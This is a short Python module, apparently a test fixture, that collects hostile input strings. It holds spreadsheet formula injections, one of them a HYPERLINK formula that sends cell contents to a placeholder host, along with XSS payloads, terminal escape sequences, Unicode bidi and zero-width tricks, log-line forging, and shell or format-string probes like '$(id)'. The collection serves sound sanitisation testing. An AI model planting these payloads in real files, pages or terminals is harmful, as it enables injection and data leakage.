"""Texts that others may choose, one for each way in which a text can do something."""

FORMULAS = (
    '=HYPERLINK("http://x/?"&A1)',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\uff1d1",
    "x;=1",
    'a";=cmd()',
)
MARKUP = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "</script>]]><!--",
    "[bold green]PASS[/]",
)
CONTROLS = (
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;http://x/\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m\x07\x00\x7f",
    "\u202ePASS\u2066",
    "zero\u200bwidth\ufeff",
    "x\r\nday1: PASS",
    "x\u2028day1: PASS",
    "lone \ud800 surrogate",
)
HOSTILE = (*FORMULAS, *MARKUP, *CONTROLS, "{detail} {0.__class__} %s $(id) `id`", "x" * 5000)


def raw(text):
    """The characters that could paint, reorder, hide or break a line."""
    return {one for one in text if not one.isprintable() and one != "\n"}
